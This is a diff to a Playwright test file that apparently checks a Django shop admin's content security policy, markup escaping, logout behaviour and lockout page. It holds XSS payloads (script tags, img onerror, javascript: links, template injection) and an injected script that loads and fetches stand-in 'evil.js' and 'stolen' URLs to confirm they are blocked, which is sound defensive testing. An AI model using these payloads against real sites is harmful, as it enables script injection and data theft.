@@ -1,16 +1,19 @@
-"""What the browser enforces: the content security policy on every page, and what is left after logging out."""
+"""What the browser enforces: the content security policy, and no page after logging out."""
 
 import json
 import re
 from collections.abc import Iterator
-from typing import Any
 
 import pytest
-from axe_playwright_python.sync_playwright import Axe
 from django.contrib.admin.utils import quote
 from playwright.sync_api import Browser, Page, expect
 
-from tests.support.browser import PASSWORD, Shop, window
+from tests.support.browser import (
+    PASSWORD,
+    LiveSite,
+    open_window,
+    serious_accessibility_faults,
+)
 from tests.support.url_table import TABLE
 
 NAME = "<script>document.hacked=1</script>"
@@ -18,9 +21,9 @@ MARKUP = """"><img src=x onerror="document.hacked=1">'-alert(1)-'{{7*7}}`"""
 
 
 @pytest.fixture
-def root(browser: Browser, shop: Shop) -> Iterator[Page]:
-    """A superuser's window, which fails the test for each violation of the policy: the browser logs it as an error."""
-    with window(browser, shop, "root") as page:
+def root(browser: Browser, site: LiveSite) -> Iterator[Page]:
+    """A window of a superuser. It fails the test for each violation of the policy."""
+    with open_window(browser, site, "root") as page:
         yield page
 
 
@@ -36,23 +39,21 @@ def is_a_page(page: Page, url: str) -> bool:
     return "text/html" in answer.headers.get("content-type", "")
 
 
-def issued_token(page: Page, shop: Shop) -> str:
-    page.goto(shop.url("/admin/products/apitoken/add/"))
+def issued_token(page: Page, site: LiveSite) -> str:
+    page.goto(site.url("/admin/products/apitoken/add/"))
     page.select_option("[name=user]", label="root")
     page.fill("[name=label]", MARKUP)
     page.get_by_role("button", name="Save", exact=True).click()
-    expect(page.get_by_text("The token, shown only now")).to_be_visible()
+    expect(page.get_by_text("Copy this token now")).to_be_visible()
     link = page.locator("#result_list a[href*='/apitoken/']").first.get_attribute("href") or ""
     return link.split("/apitoken/")[1].split("/")[0]
 
 
-def test_no_page_violates_the_policy_and_markup_in_a_product_is_text_everywhere(
-    root: Page, shop: Shop
-) -> None:
-    shop.create("policy-1", name=NAME, description=MARKUP, features=[MARKUP, NAME], period=MARKUP)
-    shop.create("policy-2", name=MARKUP, description=NAME)
-    shop.change("policy-1", price="7.00")
-    ids = {"user": 1, "holder": 1, "group": 1, "token": quote(issued_token(root, shop))}
+def test_markup_in_a_product_is_text_on_every_page(root: Page, site: LiveSite) -> None:
+    site.create("policy-1", name=NAME, description=MARKUP, features=[MARKUP, NAME], period=MARKUP)
+    site.create("policy-2", name=MARKUP, description=NAME)
+    site.change("policy-1", price="7.00")
+    ids = {"user": 1, "holder": 1, "group": 1, "token": quote(issued_token(root, site))}
     elsewhere = (
         "logout",
         "export",
@@ -68,7 +69,7 @@ def test_no_page_violates_the_policy_and_markup_in_a_product_is_text_everywhere(
         "/admin/products/product/?q=script",
         "/admin/products/product/none/change/",
     ]:
-        url = shop.url(
+        url = site.url(
             re.sub(
                 r"\bp[012]\b", lambda found: "policy-2" if "2" in found[0] else "policy-1", address
             )
@@ -77,23 +78,26 @@ def test_no_page_violates_the_policy_and_markup_in_a_product_is_text_everywhere(
         if is_a_page(root, url):
             root.goto(url)
             assert root.evaluate("document.hacked") is None, url
-    root.goto(shop.url("/admin/products/product/bulk/?id=policy-1&id=policy-2"))
-    root.get_by_label("By", exact=True).fill("10")
+    root.goto(site.url("/admin/products/product/bulk/?id=policy-1&id=policy-2"))
+    root.get_by_label("Percent or amount").fill("10")
     root.get_by_role("button", name="Preview").click()
     expect(root.get_by_role("button", name="Apply to 2 products")).to_be_visible()
     assert root.evaluate("document.hacked") is None
-    root.goto(shop.url("/admin/products/product/policy-1/change/"))
+    root.goto(site.url("/admin/products/product/policy-1/change/"))
     expect(root.locator("[name=name]")).to_have_value(NAME)
 
 
 INJECT = """async () => {
     const blocked = [];
-    document.addEventListener("securitypolicyviolation", (event) => blocked.push(event.effectiveDirective));
+    document.addEventListener("securitypolicyviolation", (event) => {
+      blocked.push(event.effectiveDirective);
+    });
     const script = document.createElement("script");
     script.textContent = "document.hacked = 1";
     document.body.append(script);
     const box = document.createElement("div");
-    box.innerHTML = '<img src="x" onerror="document.hacked = 1"><a href="javascript:document.hacked = 1">x</a>'
+    box.innerHTML = '<img src="x" onerror="document.hacked = 1">'
+      + '<a href="javascript:document.hacked = 1">x</a>'
       + '<style>body { --hacked: 1 }</style><object data="/admin/"></object>'
       + '<iframe src="/admin/"></iframe><script src="https://example.com/evil.js"></' + 'script>';
     document.body.append(box);
@@ -103,15 +107,17 @@ INJECT = """async () => {
     document.body.append(outside);
     await fetch("https://example.com/stolen").catch(() => 0);
     const until = Date.now() + 10000;
-    while (new Set(blocked).size < 6 && Date.now() < until) await new Promise((done) => setTimeout(done, 20));
+    while (new Set(blocked).size < 6 && Date.now() < until) {
+      await new Promise((done) => setTimeout(done, 20));
+    }
     const styled = getComputedStyle(document.body).getPropertyValue("--hacked");
     return [[...new Set(blocked)].sort(), document.hacked ?? null, styled];
 }"""
 
 
-def test_injected_markup_runs_nothing_and_reaches_nowhere(stranger: Page, shop: Shop) -> None:
+def test_injected_markup_is_blocked(stranger: Page, site: LiveSite) -> None:
     for address in ("/admin/login/", "/v1.0/docs", "/v1.0/products"):
-        stranger.goto(shop.url(address))
+        stranger.goto(site.url(address))
         assert stranger.evaluate(INJECT) == [
             [
                 "connect-src",
@@ -126,8 +132,8 @@ def test_injected_markup_runs_nothing_and_reaches_nowhere(stranger: Page, shop: 
         ]
 
 
-def test_swagger_ui_and_the_browsable_api_work_within_it(root: Page, shop: Shop) -> None:
-    root.goto(shop.url("/v1.0/docs"))
+def test_swagger_ui_and_browsable_api_work_under_the_policy(root: Page, site: LiveSite) -> None:
+    root.goto(site.url("/v1.0/docs"))
     listing = root.locator("#operations-products-products_list, .opblock-get").first
     listing.locator(".opblock-summary").click()
     listing.get_by_role("button", name="Try it out").click()
@@ -135,7 +141,7 @@ def test_swagger_ui_and_the_browsable_api_work_within_it(root: Page, shop: Shop)
     expect(
         listing.locator(".live-responses-table tbody .response-col_status").first
     ).to_contain_text("200")
-    root.goto(shop.url("/v1.0/products"))
+    root.goto(site.url("/v1.0/products"))
     product = {
         "productId": "browsed",
         "name": "Browsed hosting",
@@ -145,13 +151,13 @@ def test_swagger_ui_and_the_browsable_api_work_within_it(root: Page, shop: Shop)
     root.fill("textarea[name=_content]", json.dumps(product))
     root.get_by_role("button", name="POST").click()
     expect(root.locator(".response-info")).to_contain_text("HTTP 202 Accepted")
-    assert shop.product("browsed")["name"] == "Browsed hosting"
+    assert site.product("browsed")["name"] == "Browsed hosting"
 
 
-def test_back_after_logging_out_shows_nothing(browser: Browser, shop: Shop) -> None:
+def test_back_after_logging_out_shows_nothing(browser: Browser, site: LiveSite) -> None:
     page = browser.new_page(viewport={"width": 1400, "height": 800})
-    log_in(page, shop, "vic", PASSWORD)
-    page.goto(shop.url())
+    log_in(page, site, "vic", PASSWORD)
+    page.goto(site.url())
     expect(page.locator("#changelist")).to_be_visible()
     page.locator("form[action$='/admin/logout/']").first.evaluate("form => form.submit()")
     expect(page.get_by_text("Logged out")).to_be_visible()
@@ -160,22 +166,19 @@ def test_back_after_logging_out_shows_nothing(browser: Browser, shop: Shop) -> N
     page.close()
 
 
-def log_in(page: Page, shop: Shop, name: str, password: str) -> None:
-    page.goto(shop.url("/admin/login/"))
+def log_in(page: Page, site: LiveSite, name: str, password: str) -> None:
+    page.goto(site.url("/admin/login/"))
     page.fill("[name=username]", name)
     page.fill("[name=password]", password)
     page.click("[type=submit]")
 
 
-def test_the_lock_says_when_to_try_again_and_can_be_read_by_everyone(
-    stranger: Page, shop: Shop
-) -> None:
+def test_the_lockout_page_is_accessible_and_says_how_long(stranger: Page, site: LiveSite) -> None:
     for _ in range(4):
-        log_in(stranger, shop, "mallory", "a guess")
+        log_in(stranger, site, "mallory", "a guess")
         expect(stranger.get_by_text("Please correct the error")).to_be_visible()
-    log_in(stranger, shop, "mallory", "a guess")
+    log_in(stranger, site, "mallory", "a guess")
     expect(stranger.get_by_role("alert")).to_contain_text("Please try again in 15 minutes")
-    found: Any = Axe().run(stranger).response["violations"]
-    assert [rule["id"] for rule in found if rule["impact"] in {"serious", "critical"}] == []
+    assert serious_accessibility_faults(stranger) == []
     stranger.get_by_role("link", name="Try again").click()
     expect(stranger.locator("[name=password]")).to_be_visible()
